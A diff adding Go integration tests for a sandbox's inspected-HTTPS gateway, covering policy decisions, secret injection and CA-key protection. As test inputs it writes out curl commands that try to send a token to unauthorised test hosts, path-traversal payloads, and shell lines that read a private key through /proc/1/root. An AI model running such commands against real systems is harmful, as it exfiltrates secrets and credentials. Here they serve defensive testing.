@@ -1,0 +1,458 @@
+package integration
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"math/big"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+// Inspected HTTPS (docs/sandbox.md, "Inspected HTTPS"): servers of the
+// test's network with certificates of a test CA given as upstream_ca, one
+// (bad.test) with a certificate of a CA nobody trusts.
+
+const inspectSrv = "10.233.0.2"
+
+// inspectValue is the secret's value: it must appear in no output, log or
+// file a run can read; only the server sees it.
+const inspectValue = "ghp_V4lue0fTheSecretNobodySees"
+
+// testCA is a CA of the test's own.
+type testCA struct {
+	cert *x509.Certificate
+	key  *ecdsa.PrivateKey
+	pem  []byte
+}
+
+func newTestCA(t *testing.T, name string) *testCA {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name}, IsCA: true, BasicConstraintsValid: true,
+		KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cert, _ := x509.ParseCertificate(der)
+	return &testCA{cert: cert, key: key, pem: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})}
+}
+
+// leaf is a server certificate for names, signed by ca.
+func (ca *testCA) leaf(t *testing.T, names ...string) tls.Certificate {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
+		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.cert, &key.PublicKey, ca.key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
+}
+
+// inspectServer records what its HTTPS servers read.
+type inspectServer struct {
+	mu   sync.Mutex
+	seen []string // "host method uri auth=ok|none|other body=N"
+	raw  strings.Builder
+}
+
+func (s *inspectServer) saw() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return strings.Join(s.seen, "\n")
+}
+
+// serve answers every request with what it read, the secret's value never
+// (auth=ok when Authorization carried it, which only the server knows);
+// /echo-headers answers the request's headers as response headers.
+func (s *inspectServer) handler(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	auth := "none"
+	switch a := r.Header.Get("Authorization"); {
+	case a == "Bearer "+inspectValue:
+		auth = "ok"
+	case a != "":
+		auth = "other"
+	}
+	line := fmt.Sprintf("%s %s %s auth=%s body=%d", r.Host, r.Method, r.RequestURI, auth, len(body))
+	s.mu.Lock()
+	s.seen = append(s.seen, line)
+	fmt.Fprintf(&s.raw, "%s %v %q\n", line, r.Header, body)
+	s.mu.Unlock()
+	if r.URL.Path == "/echo-headers" {
+		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+	}
+	for _, p := range pathReadings(r.RequestURI) {
+		if strings.HasPrefix(p, "/private") {
+			fmt.Fprintf(w, "SECRET-DATA target=%s read=%s", r.RequestURI, p)
+			return
+		}
+	}
+	fmt.Fprintf(w, "seen %s", line)
+}
+
+// inspectRules: api.test, other.test and bad.test inspected; the secret
+// gh goes to api.test in a DM.
+func inspectRules(hosts, upstreamCA, secretFile string) string {
+	return privateRule + `
+[sandbox]
+binaries = ["/bin/sh", "/usr/bin/curl", "/usr/bin/python3", "/usr/bin/cat", "/usr/bin/git", "/usr/lib/git-core/", "/usr/bin/node", "/usr/bin/env"]
+network = "policy"
+connections = 16
+reach_private = ["10.233.0.0/24"]
+hosts = "` + hosts + `"
+
+[egress]
+inspect = ["api.test", "other.test", "bad.test"]
+upstream_ca = "` + upstreamCA + `"
+
+[secrets.gh]
+hosts = ["api.test"]
+value = "file:` + secretFile + `"
+env = "GH_TOKEN"
+when = "discord:dm"
+`
+}
+
+// inspectPolicy: GET and POST, nothing under /private; plain HTTP to
+// web.test; tcp nowhere.
+const inspectPolicy = `version: 1
+roles:
+  default:
+    tools:
+      exec: {mode: allow}
+      connect:
+        mode: allow
+        constraints:
+          - args.host in ["api.test", "other.test", "bad.test", "web.test"]
+          - args.protocol in ["http", "https"]
+          - args.method in ["GET", "POST"]
+          - not startswith(args.path, "/private")
+`
+
+type inspectHome struct {
+	d   *daemon
+	n   *egressNet
+	srv *inspectServer
+	ca  string // the daemon's CA key file
+}
+
+func newInspectHome(t *testing.T) *inspectHome {
+	t.Helper()
+	n := newNetAt(t, "cfin", "10.233.0")
+	ca, rogue := newTestCA(t, "condfs test upstream CA"), newTestCA(t, "a CA nobody trusts")
+	certs := map[string]tls.Certificate{"api.test": ca.leaf(t, "api.test"), "other.test": ca.leaf(t, "other.test"), "bad.test": rogue.leaf(t, "bad.test")}
+	srv := &inspectServer{}
+	conf := &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
+		c, ok := certs[h.ServerName]
+		if !ok {
+			return nil, fmt.Errorf("no certificate for %q", h.ServerName)
+		}
+		return &c, nil
+	}}
+	go http.Serve(tls.NewListener(n.listen(t, inspectSrv+":443"), conf), http.HandlerFunc(srv.handler))
+	go http.Serve(n.listen(t, inspectSrv+":80"), http.HandlerFunc(srv.handler))
+	h := openHome(t, "-")
+	h.t = t
+	hosts := h.write("config/hosts", inspectSrv+" api.test other.test bad.test web.test\n")
+	caFile := h.write("config/upstream-ca.pem", string(ca.pem))
+	secret := h.write("config/gh-token", inspectValue+"\n")
+	os.Chmod(secret, 0o600)
+	h.write("config/conditions.toml", inspectRules(hosts, caFile, secret))
+	h.write("config/policy.yaml", inspectPolicy)
+	os.Chmod(h.path("workspace"), 0o777)
+	d := startDaemon(t, h, "--allow-uid", "65534", "--socket-mode", "0666")
+	os.Chmod(h.path("run"), 0o755)
+	d.openFor("s", nobody, dmCtx)
+	return &inspectHome{d: d, n: n, srv: srv, ca: filepath.Join(h.path("run"), "egress-ca.key")}
+}
+
+// noValue fails the test if the secret's value is in s.
+func noValue(t *testing.T, what, s string) {
+	t.Helper()
+	if strings.Contains(s, inspectValue) {
+		t.Errorf("HOLE: the secret's value is in %s:\n%s", what, s)
+	}
+}
+
+// TestInspectRequests: each request over HTTPS to an inspected host is
+// decided by method and path, through the proxy and captured, by curl
+// trusting the run's bundle; an untrusted server is refused with 502.
+func TestInspectRequests(t *testing.T) {
+	ih := newInspectHome(t)
+	d := ih.d
+	curl := func(args ...string) string {
+		t.Helper()
+		out, _ := condfsRun(t, d, "", append([]string{"--", "curl", "-sS", "-i", "--max-time", "10"}, args...)...)
+		noValue(t, "curl's output", out)
+		return out
+	}
+	cases := []struct {
+		name string
+		args []string
+		want string
+	}{
+		{"proxy: allowed GET", []string{"https://api.test/a/./b/../c?x=1"}, "seen api.test GET /a/c?x=1 auth=none"},
+		{"captured: allowed GET", []string{"--noproxy", "*", "https://api.test/%7Ex"}, "seen api.test GET /~x auth=none"},
+		{"proxy: denied path", []string{"https://api.test/private/k"}, "403 Forbidden"},
+		{"captured: denied path, encoded", []string{"--noproxy", "*", "https://api.test/%70rivate/k"}, "403 Forbidden"},
+		{"captured: denied method", []string{"--noproxy", "*", "-X", "DELETE", "https://api.test/a"}, "403 Forbidden"},
+		{"proxy: POST with a body", []string{"-d", "hello", "https://api.test/post"}, "seen api.test POST /post auth=none body=5"},
+		{"captured: Host names another host", []string{"--noproxy", "*", "-H", "Host: other.test", "https://api.test/a"}, "400 Bad Request"},
+		{"captured: an upgrade", []string{"--noproxy", "*", "-H", "Upgrade: websocket", "-H", "Connection: Upgrade", "https://api.test/ws"}, "501 Not Implemented"},
+		{"proxy: untrusted server", []string{"https://bad.test/"}, "502 Bad Gateway"},
+		{"captured: untrusted server", []string{"--noproxy", "*", "https://bad.test/"}, "502 Bad Gateway"},
+		{"captured: an encoded slash", []string{"--noproxy", "*", "--path-as-is", "https://api.test/a/..%2Fprivate/x"}, "400 Bad Request"},
+	}
+	for _, c := range cases {
+		if out := curl(c.args...); !strings.Contains(out, c.want) {
+			t.Errorf("%s: %q not in\n%s", c.name, c.want, out)
+		}
+	}
+	logs := d.log()
+	for _, want := range []string{
+		`"host":"api.test","port":443,"protocol":"https","method":"GET","path":"/a/c?x=1","addr":"` + inspectSrv + `","decision":"allow"`,
+		`"host":"api.test","port":443,"protocol":"https","method":"GET","path":"/private/k","decision":"deny"`,
+		`"refused":"the server's TLS for bad.test: tls: failed to verify certificate`,
+	} {
+		if !strings.Contains(logs, want) {
+			t.Errorf("no %s in the audit log", want)
+		}
+	}
+	if seen := ih.srv.saw(); strings.Contains(seen, "/private") || strings.Contains(seen, "DELETE") || strings.Contains(seen, "bad.test") {
+		t.Errorf("HOLE: the server read what was not decided:\n%s", seen)
+	}
+	if t.Failed() {
+		t.Log(tail(logs, 40))
+	}
+}
+
+// TestInspectPathParity: the path attacks kept for plain HTTP, over
+// inspected HTTPS: the same status for each target on both, and none
+// read under /private.
+func TestInspectPathParity(t *testing.T) {
+	ih := newInspectHome(t)
+	targets := append(pathFormTargets("api.test"), "/pub/ok")
+	code := `
+import socket, ssl, sys
+ctx = ssl.create_default_context()
+def ask(scheme, t):
+    host = "api.test" if scheme == "https" else "web.test"
+    s = socket.create_connection((host, 443 if scheme == "https" else 80), timeout=5)
+    if scheme == "https":
+        s = ctx.wrap_socket(s, server_hostname="api.test")
+        t = t.replace("http://api.test", "https://api.test")
+    t = t.replace("api.test", host)
+    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (t, host)).encode())
+    got = b""
+    while True:
+        b = s.recv(65536)
+        if not b:
+            break
+        got += b
+    return got
+for t in sys.argv[2:]:
+    for scheme in ("http", "https"):
+        try:
+            got = ask(scheme, t)
+            print(scheme, t, got.split(b"\r\n")[0].decode(), got[got.find(b"\r\n\r\n")+4:][:100].decode(errors="replace").replace("\n", " "), flush=True)
+        except Exception as e:
+            print(scheme, t, "error", type(e).__name__, e, flush=True)
+`
+	out, _ := condfsRun(t, ih.d, "", append([]string{"--", "python3", "-c", code, "api.test"}, targets...)...)
+	status := map[string]map[string]string{}
+	for _, l := range strings.Split(out, "\n") {
+		f := strings.Fields(l)
+		if len(f) < 3 {
+			continue
+		}
+		if strings.Contains(l, "SECRET-DATA") {
+			t.Errorf("HOLE: a path decided as not under /private was read under /private: %s", l)
+		}
+		if status[f[1]] == nil {
+			status[f[1]] = map[string]string{}
+		}
+		status[f[1]][f[0]] = strings.Join(f[2:min(len(f), 4)], " ")
+	}
+	if !strings.Contains(out, "https /pub/ok HTTP/1.1 200 OK") || !strings.Contains(out, "http /pub/ok HTTP/1.1 200 OK") {
+		t.Fatalf("setup: an allowed path was not served over HTTPS:\n%s\n%s", out, tail(ih.d.log(), 20))
+	}
+	for _, tg := range targets {
+		if s := status[tg]; s == nil || s["http"] != s["https"] {
+			t.Errorf("%s: plain HTTP %q, HTTPS %q", tg, s["http"], s["https"])
+		}
+	}
+	if t.Failed() {
+		t.Log(out)
+	}
+}
+
+// TestInspectSecrets: the run holds a placeholder; the gateway puts the
+// value into header values of requests to api.test in a DM, and refuses
+// the placeholder anywhere else; the value is in no output, log or file
+// of the run, nor is the CA's key.
+func TestInspectSecrets(t *testing.T) {
+	ih := newInspectHome(t)
+	d := ih.d
+	run := func(script string) string {
+		t.Helper()
+		out, _ := condfsRun(t, d, "", "--", "sh", "-c", script)
+		noValue(t, "the run's output", out)
+		return out
+	}
+	const c = `curl -sS -i --max-time 10 `
+	out := run(`echo "env=$GH_TOKEN"; ` + c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/with-secret`)
+	if !strings.Contains(out, "env=condfs-secret-gh-") || !strings.Contains(out, "seen api.test GET /with-secret auth=ok") {
+		t.Errorf("the secret was not put into a request to its host:\n%s", out)
+	}
+	leaks := []struct{ name, script string }{
+		{"another inspected host", c + `-H "Authorization: Bearer $GH_TOKEN" https://other.test/leak1`},
+		{"plain HTTP", c + `-H "Authorization: Bearer $GH_TOKEN" http://web.test/leak2`},
+		{"the request line", c + `"https://api.test/leak3?t=$GH_TOKEN"`},
+		{"a header name", c + `-H "X-$GH_TOKEN: 1" https://api.test/leak4`},
+		{"a body to another host", c + `-d "t=$GH_TOKEN" https://other.test/leak5`},
+		{"a chunked body to another host", c + `-H "Transfer-Encoding: chunked" -d "t=$GH_TOKEN" https://other.test/leak6`},
+		{"a body behind Expect: 100-continue", c + `-H "Expect: 100-continue" -d "t=$GH_TOKEN" https://other.test/leak7`},
+		{"trailers", c + `-H "Trailer: X-T" -H "Transfer-Encoding: chunked" -d "t=x" https://api.test/leak8`},
+	}
+	for _, l := range leaks {
+		if out := run(l.script); !strings.Contains(out, "HTTP/1.1 403") && !strings.Contains(out, "HTTP/1.1 400") {
+			t.Errorf("%s: not refused:\n%s", l.name, out)
+		}
+	}
+	// The answer of a server that echoes the header shows the placeholder.
+	if out := run(c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/echo-headers`); !strings.Contains(out, "X-Echo: Bearer condfs-secret-gh-") {
+		t.Errorf("an echoed value was not written back as the placeholder:\n%s", out)
+	}
+	// Out of the DM, the secret's when does not hold: refused.
+	d.setContext("s", guildCtx)
+	if out := run(c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/guild`); !strings.Contains(out, "403") {
+		t.Errorf("the secret went out of its context:\n%s", out)
+	}
+	d.setContext("s", dmCtx)
+	// A kept sandbox's next command gets another placeholder; the last
+	// one's is refused.
+	a, b := run(`echo $GH_TOKEN`), run(`echo $GH_TOKEN`)
+	if a == b {
+		t.Errorf("one placeholder for two commands: %s", a)
+	}
+	seen := ih.srv.saw()
+	for _, l := range strings.Split(seen, "\n") {
+		if strings.Contains(l, "/leak") || strings.Contains(l, "/guild") {
+			t.Errorf("HOLE: the server read a refused request: %s", l)
+		}
+	}
+	logs := d.log()
+	noValue(t, "the daemon's log", logs)
+	if !strings.Contains(logs, `"secrets":["gh"]`) || !strings.Contains(logs, `leak attempt: the placeholder of secret gh`) {
+		t.Errorf("the audit log names no secret or no leak attempt:\n%s", tail(logs, 30))
+	}
+	// The CA's key: the daemon's, never the run's.
+	if st, err := os.Stat(ih.ca); err != nil || st.Mode().Perm() != 0o600 {
+		t.Errorf("the CA key %s: %v %v", ih.ca, st, err)
+	}
+	if out := run(`cat ` + ih.ca + ` /proc/1/root` + ih.ca + ` 2>&1; grep -rl "PRIVATE KEY" /etc /tmp /workspace /memories 2>/dev/null; echo done`); strings.Contains(out, "PRIVATE KEY") || !strings.Contains(out, "done") {
+		t.Errorf("HOLE: the run reads the CA's key:\n%s", out)
+	}
+	// Files a run reads: nothing holds the value.
+	if out := run(`grep -rl "` + inspectValue[:12] + `" /etc /tmp /workspace /proc/self/environ 2>/dev/null; echo done`); strings.Contains(out, "/") {
+		t.Errorf("HOLE: a file of the run holds the value: %s", out)
+	}
+}
+
+// TestInspectClients: git, Python's urllib and Node's fetch trust the
+// run's bundle unchanged.
+func TestInspectClients(t *testing.T) {
+	ih := newInspectHome(t)
+	for _, c := range []struct {
+		name string
+		argv []string
+		want string // what the server read
+	}{
+		{"python urllib (proxy)", []string{"python3", "-c", `import urllib.request; print(urllib.request.urlopen("https://api.test/py").read())`}, "api.test GET /py "},
+		// Node's JIT needs memory written and executed, which no run
+		// has (docs/sandbox.md): without it fetch has no WebAssembly
+		// (its HTTP parser), so Node's own https client stands for it.
+		{"node https (captured)", []string{"node", "--jitless", "-e", `require("https").get("https://api.test/node", r => r.pipe(process.stdout)).on("error", e => { console.error(e); process.exit(1) })`}, "api.test GET /node "},
+		{"git", []string{"git", "ls-remote", "https://api.test/repo.git"}, "api.test GET /repo.git/info/refs?service=git-upload-pack"},
+	} {
+		if _, err := exec.LookPath(c.argv[0]); err != nil {
+			t.Logf("%s: not on this machine", c.name)
+			continue
+		}
+		out, _ := condfsRun(t, ih.d, "", append([]string{"--"}, c.argv...)...)
+		if !strings.Contains(ih.srv.saw(), c.want) {
+			t.Errorf("%s: the server read no %q:\n%s", c.name, c.want, out)
+		}
+		if strings.Contains(strings.ToLower(out), "certificate") {
+			t.Errorf("%s: %s", c.name, out)
+		}
+	}
+}
+
+// TestInspectUnprivilegedDaemon: inspected HTTPS and secrets on the
+// user-namespace path (a daemon run by uid 65534).
+func TestInspectUnprivilegedDaemon(t *testing.T) {
+	requireUnprivilegedFUSE(t)
+	n := newNetAt(t, "cfin", "10.233.0")
+	ca := newTestCA(t, "condfs test upstream CA")
+	srv := &inspectServer{}
+	conf := &tls.Config{Certificates: []tls.Certificate{ca.leaf(t, "api.test", "other.test")}}
+	go http.Serve(tls.NewListener(n.listen(t, inspectSrv+":443"), conf), http.HandlerFunc(srv.handler))
+	h := openHome(t, "-")
+	h.t = t
+	hosts := h.write("config/hosts", inspectSrv+" api.test other.test bad.test web.test\n")
+	caFile := h.write("config/upstream-ca.pem", string(ca.pem))
+	secret := h.write("config/gh-token", inspectValue+"\n")
+	h.write("config/conditions.toml", inspectRules(hosts, caFile, secret))
+	h.write("config/policy.yaml", inspectPolicy)
+	sock, logs := startUnprivDaemon(t, h)
+	os.Chmod(secret, 0o600)
+	run := func(script string) string {
+		cmd := exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", condfsBin, "run", "--socket", sock, "--session", "default", "--", "sh", "-c", script)
+		out, _ := cmd.CombinedOutput()
+		noValue(t, "the run's output", string(out))
+		return string(out)
+	}
+	const c = `curl -sS -i --max-time 10 `
+	for _, tc := range []struct{ script, want string }{
+		{c + `https://api.test/u1`, "seen api.test GET /u1 auth=none"},
+		{c + `--noproxy '*' -H "Authorization: Bearer $GH_TOKEN" https://api.test/u2`, "seen api.test GET /u2 auth=ok"},
+		{c + `https://api.test/private/u3`, "403 Forbidden"},
+		{c + `-H "Authorization: Bearer $GH_TOKEN" https://other.test/u4`, "403 Forbidden"},
+		{`cat ` + h.path("run/egress-ca.key") + ` 2>&1; echo done`, "done"},
+	} {
+		if out := run(tc.script); !strings.Contains(out, tc.want) || strings.Contains(out, "PRIVATE KEY") {
+			t.Errorf("%s: %q not in\n%s", tc.script, tc.want, out)
+		}
+	}
+	noValue(t, "the daemon's log", logs())
+	if strings.Contains(srv.saw(), "/private") || strings.Contains(srv.saw(), "/u4") {
+		t.Errorf("HOLE: the server read a refused request:\n%s", srv.saw())
+	}
+	if t.Failed() {
+		t.Log(tail(logs(), 30))
+	}
+}
